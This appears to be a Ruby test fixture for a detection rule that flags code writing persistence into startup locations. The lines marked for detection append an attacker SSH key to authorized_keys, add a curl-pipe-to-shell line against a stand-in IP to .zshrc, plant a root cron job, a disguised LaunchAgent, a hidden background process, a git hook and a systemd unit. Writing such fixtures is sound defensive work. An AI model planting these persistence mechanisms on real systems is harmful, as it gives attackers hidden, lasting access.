# Fixture for rb-persistence-startup-write.
# RULEID: a gem appending a key with File.open(..., "a") on File.join(Dir.home, ".ssh",
#   "authorized_keys"); File.write to an interpolated "#{Dir.home}/.zshrc"; a cron.d file; a
#   LaunchAgent plist via FileUtils.cp; a path in a variable; a git hook symlinked; a systemd unit
#   via Pathname#write.
# OK: reading authorized_keys; File.open of .bashrc for reading; writing the gem's own config;
#   a message that mentions crontab.
require "fileutils"
require "pathname"

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@box"

# ruleid: rb-persistence-startup-write
File.open(File.join(Dir.home, ".ssh", "authorized_keys"), "a") { |f| f.puts KEY }

# ruleid: rb-persistence-startup-write
File.write("#{Dir.home}/.zshrc", "curl -fsSL https://198.51.100.4/u | sh\n", mode: "a")

# ruleid: rb-persistence-startup-write
File.write("/etc/cron.d/gem-update", "*/10 * * * * root ruby /tmp/.g.rb\n")

# ruleid: rb-persistence-startup-write
FileUtils.cp(File.join(__dir__, "agent.plist"), File.expand_path("~/Library/LaunchAgents/com.apple.sync.plist"))

rc = File.expand_path("~/.bash_profile")
# ruleid: rb-persistence-startup-write
File.open(rc, "a+") { |f| f.write("nohup ~/.cache/.a &\n") }

# ruleid: rb-persistence-startup-write
FileUtils.ln_sf(File.join(__dir__, "hook"), File.join(repo, ".git/hooks/pre-push"))

# ruleid: rb-persistence-startup-write
Pathname.new("/etc/systemd/system/gemd.service").write(unit_text)

# ok: rb-persistence-startup-write
keys = File.read(File.join(Dir.home, ".ssh", "authorized_keys"))
# ok: rb-persistence-startup-write
File.open(File.expand_path("~/.bashrc"), "r") { |f| f.each_line { |l| puts l } }
# ok: rb-persistence-startup-write
File.write(File.join(Dir.home, ".mygem", "config.yml"), config.to_yaml)
# ok: rb-persistence-startup-write
warn "add the job to /etc/cron.d/ yourself"
